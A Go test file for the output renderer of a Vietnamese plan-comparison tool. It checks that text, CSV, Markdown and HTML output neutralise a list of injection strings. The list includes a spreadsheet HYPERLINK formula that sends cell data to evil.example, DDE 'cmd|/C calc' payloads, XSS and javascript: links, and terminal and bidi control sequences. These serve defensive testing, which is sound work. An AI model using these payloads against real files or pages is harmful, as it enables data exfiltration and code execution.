package render

import (
	"bytes"
	"encoding/csv"
	"io"
	"regexp"
	"strings"
	"testing"

	"doichieu/compare"
	"doichieu/extract"
)

// attacks are words that somebody could put into a plan to reach past the table
// that shows them.
var attacks = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"bấm")`,
	"+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1",
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `</style><script>alert(1)</script>`, `' onmouseover='alert(1)`,
	"javascript:alert(1)", "{{.Policy}}", "<!-- -->", "]]>", "&lt;b&gt;",
	"\x1b[31mđỏ\x1b[0m", "\x1b]0;tiêu đề\x07", "\u009b31m", "a\bb", "\x00\x7f",
	"ngược \u202Egnuhk\u202C", "\u2066a\u2069\u200b\ufeff", "dòng\u2028khác",
	"| a | b |", "[x](javascript:alert(1))", "![x](http://evil.example/x.png)", "`code`", "http://evil.example", "*đậm* _nghiêng_ ~~bỏ~~ # đề",
	"\xff\xfe không phải UTF-8",
}

// hostile is a comparison in which every string that comes from a document is
// the attack.
func hostile(attack string) Input {
	in := against()
	as := []extract.Assignment{{Role: extract.Lead, Agency: attack, Name: attack, Raw: attack, Inherited: attack, Requested: true}}
	ds := []extract.Deadline{{Raw: attack, Kind: extract.Recurring, Every: attack, On: attack, From: attack, To: attack, Inherited: attack}}
	ts := []extract.Target{{Raw: attack, Of: attack, Unit: attack, Task: attack}}
	for _, p := range in.Plans {
		d := &p.Document
		d.Locality, d.Number, d.Title, d.Issuer, d.Issued, d.Source.Name = attack, attack, attack, attack, attack, attack
		p.Targets = ts
		for i := range p.Sections {
			p.Sections[i].Heading = attack
		}
		for i := range p.Tasks {
			t := &p.Tasks[i]
			t.ID, t.Text, t.Assignments, t.Deadlines = attack, attack, as, ds
		}
	}
	c := in.Comparison
	for i := range c.Plans {
		p := &c.Plans[i]
		p.Locality, p.Number, p.Title, p.Issuer, p.Issued, p.Source.Name = attack, attack, attack, attack, attack, attack
	}
	for i := range c.Rows {
		c.Rows[i].Topic, c.Rows[i].Section = attack, attack
		for j := range c.Rows[i].Statuses {
			s := &c.Rows[i].Statuses[j]
			s.Differences = []compare.Difference{{Kind: compare.OtherLead, Was: attack, Is: attack, Source: attack}}
			s.Remarks = []compare.Difference{{Kind: compare.Renamed, Was: attack, Is: attack}}
			s.Rejected = []compare.Rejected{{Against: attack, Task: attack, Text: attack}}
		}
		for j := range c.Rows[i].Members {
			m := &c.Rows[i].Members[j]
			*m = compare.Member{
				Plan: m.Plan, Task: attack, Text: attack, Section: attack, Lead: as, Coordinating: as, Implementing: as, Deadlines: ds, Targets: ts,
			}
		}
	}
	for i := range c.Baseline.Sections {
		c.Baseline.Sections[i].Section = attack
	}
	c.Notes[0].Message = attack
	side := compare.FindingSide{Plan: c.Plans[0].ID, Task: attack, Text: attack, Words: attack}
	c.Findings = []compare.Finding{{Kind: compare.FindLead, Topic: attack, Row: attack, Measure: side, Here: side}}
	return in
}

// TestHostileControls: no format passes on a control character that a terminal
// or a reader would act on.
func TestHostileControls(t *testing.T) {
	acts := regexp.MustCompile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u0080-\u009f\u200b\u200e\u200f\u202a-\u202e\u2028\u2029\u2066-\u2069]")
	for _, name := range []string{"text", "csv", "md", "html"} {
		for _, attack := range attacks {
			listed := hostile(attack)
			listed.Findings = true
			inputs := []Input{hostile(attack), listed, {Plans: hostile(attack).Plans}, hostileHits(attack), hostileGroups(attack)}
			if name != "html" {
				inputs = append(inputs, hostileMentions(attack))
			}
			for _, in := range inputs {
				out := renderTo(t, name, in, "vi")
				if m := acts.Find(out); m != nil {
					t.Errorf("%s passes %q of %q on", name, m, attack)
				}
			}
		}
	}
	// The near miss: what is harmless stays as it is, newlines included.
	if s := "Sở Y tế\n– 100 % “không ma túy” e\u0323"; visible(s) != s {
		t.Errorf("visible(%q) = %q", s, visible(s))
	}
	if got := visible("a\x1b[31m\u202e"); got != "a␛[31m<U+202E>" {
		t.Errorf("visible shows %q", got)
	}
}

// TestHostileHTML: whatever the words, the page has the same tags as with plain
// words.
func TestHostileHTML(t *testing.T) {
	tags := regexp.MustCompile(`<[^>]*>`)
	names := func(in Input) string {
		var b strings.Builder
		for _, tag := range tags.FindAll(renderTo(t, "html", in, "vi"), -1) {
			name, _, _ := strings.Cut(strings.Trim(string(tag), "<>"), " ")
			b.WriteString(name + " ")
		}
		return b.String()
	}
	for _, made := range []func(string) Input{hostile, hostileHits, hostileGroups} {
		want := names(made("lành"))
		for _, attack := range attacks {
			if got := names(made(attack)); got != want {
				t.Errorf("%q changes the tags of the page", attack)
			}
		}
	}
}

// liveMarkdown finds a tag, a link or an address that a reader would follow.
var liveMarkdown = regexp.MustCompile(`<script|<img|[^\\]\]\(|[^\\]://`)

// TestHostileMarkdown: a table keeps its number of cells, and no HTML, link or
// picture comes from the words.
func TestHostileMarkdown(t *testing.T) {
	cellEnd := regexp.MustCompile(`(^|[^\\])\|`)
	count := func(in Input) []int {
		var n []int
		for line := range strings.Lines(string(renderTo(t, "md", in, "vi"))) {
			n = append(n, len(cellEnd.FindAllString(line, -1)))
		}
		return n
	}
	for _, made := range []func(string) Input{hostile, hostileHits, hostileGroups, hostileMentions} {
		want := count(made("lành"))
		for _, attack := range attacks {
			if got := count(made(attack)); len(got) != len(want) {
				t.Errorf("%q: %d lines, want %d", attack, len(got), len(want))
			} else {
				for i := range got {
					if got[i] != want[i] {
						t.Errorf("%q: line %d has %d cell ends, want %d", attack, i+1, got[i], want[i])
					}
				}
			}
			out := string(renderTo(t, "md", made(attack), "vi"))
			if m := liveMarkdown.FindString(out); m != "" {
				t.Errorf("%q leaves %q in the Markdown", attack, m)
			}
		}
	}
}

// TestHostileCSV reads the file back: same shape, words whole, and no cell that a
// spreadsheet would run.
func TestHostileCSV(t *testing.T) {
	for _, attack := range attacks {
		listed := hostile(attack)
		listed.Findings = true
		for _, in := range []Input{hostile(attack), listed, {Plans: hostile(attack).Plans}, {Plans: hostile(attack).Plans, Long: true}, hostileHits(attack), hostileMentions(attack)} {
			for _, record := range readCSV(t, renderTo(t, "csv", in, "vi")) {
				for _, cell := range record {
					if cell != "" && strings.ContainsAny(strings.TrimSpace(cell)[:1], "=+-@") {
						t.Errorf("%q: cell %q would run as a formula", attack, cell)
					}
				}
			}
		}
	}
}

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	rest, ok := bytes.CutPrefix(b, []byte("\xEF\xBB\xBF"))
	if !ok {
		t.Error("the CSV file does not begin with a byte order mark")
	}
	for i, c := range b {
		if c == '\n' && b[i-1] != '\r' {
			t.Fatal("a line of the CSV file does not end in CRLF")
		}
	}
	r := csv.NewReader(bytes.NewReader(rest))
	var out [][]string
	for {
		record, err := r.Read()
		if err == io.EOF {
			return out
		}
		if err != nil { // the reader also checks that all lines have as many fields as the first
			t.Fatal(err)
		}
		out = append(out, record)
	}
}

func TestCSVReadsBack(t *testing.T) {
	records := readCSV(t, renderTo(t, "csv", sample(), "vi"))
	if len(records) != 4 || len(records[0]) != 3+2*9 {
		t.Fatalf("%d records of %d fields, want 4 of 21", len(records), len(records[0]))
	}
	if got, want := records[1][12], "(1) a) Sở Xây dựng rà soát điểm đen trước cổng trường.\n(2) b) Sở Xây dựng rà soát điểm đen tại điểm đón trả học sinh."; got != want {
		t.Errorf("cell with two tasks is %q, want %q", got, want)
	}
	if got := records[1][7]; got != "2026-06-30" {
		t.Errorf("due date is %q", got)
	}
}

func TestRunsAsFormula(t *testing.T) {
	for s, want := range map[string]bool{
		"=1+1": true, "+1+1": true, "-1+1": true, "@A1": true, "- Chủ trì": true, "-": true, "--5": true, "\t1": true, " =1": true, "＝1": true,
		"-5": false, "+84": false, "-12,5": false, "a=b": false, "": false, "a) Chủ trì": false, "II/1/-1": false, "100%": false, "1-2": false,
	} {
		if got := runsAsFormula(s); got != want {
			t.Errorf("runsAsFormula(%q) = %v", s, got)
		}
	}
}
